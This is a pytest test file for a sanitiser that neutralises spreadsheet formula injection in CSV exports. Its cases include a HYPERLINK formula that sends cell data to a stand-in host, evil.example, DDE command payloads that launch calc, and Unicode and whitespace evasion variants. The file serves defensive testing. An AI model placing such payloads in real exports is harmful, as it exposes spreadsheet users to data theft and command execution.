"""CSV cells a spreadsheet would run as a formula are made plain text; nothing else changes."""

from __future__ import annotations

import csv
import io

import pytest

from bot.spreadsheet import cell, row

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"click")'


@pytest.mark.parametrize("typed", [
    HYPERLINK, "=1+2", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2", "\r=1+2", "-", "+", "=", "@", "- the projector is dead", "-3e5", "- 3",
    # what an importer may trim first, and full-width signs (a fourth red team's, stop 43)
    " =1+2", "\u00a0=1+1", "\n=2+2", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1",
    "\uff1dHYPERLINK(1)", "  +1+2"])
def test_a_cell_starting_like_a_formula_gets_a_quote(typed: str) -> None:
    assert cell(typed) == "'" + typed


@pytest.mark.parametrize("value", [
    "the printer jams", "204", "1.5", "-3", "+0.5", "-12.25", "2026-12-04T20:27:25+00:00",
    "Room =12", "", "  the printer jams", "[name] can't log in", 0, 14, -2, -0.5, 1.5, None])
def test_ordinary_text_and_numbers_are_left_as_they_are(value: object) -> None:
    assert cell(value) == value


def test_a_row_is_made_safe_cell_by_cell_and_reads_back_as_typed_after_the_quote() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(row(["7", HYPERLINK, -2, "-2+3", "fine"]))
    [read] = list(csv.reader(io.StringIO(out.getvalue())))
    assert read == ["7", "'" + HYPERLINK, "-2", "'-2+3", "fine"]
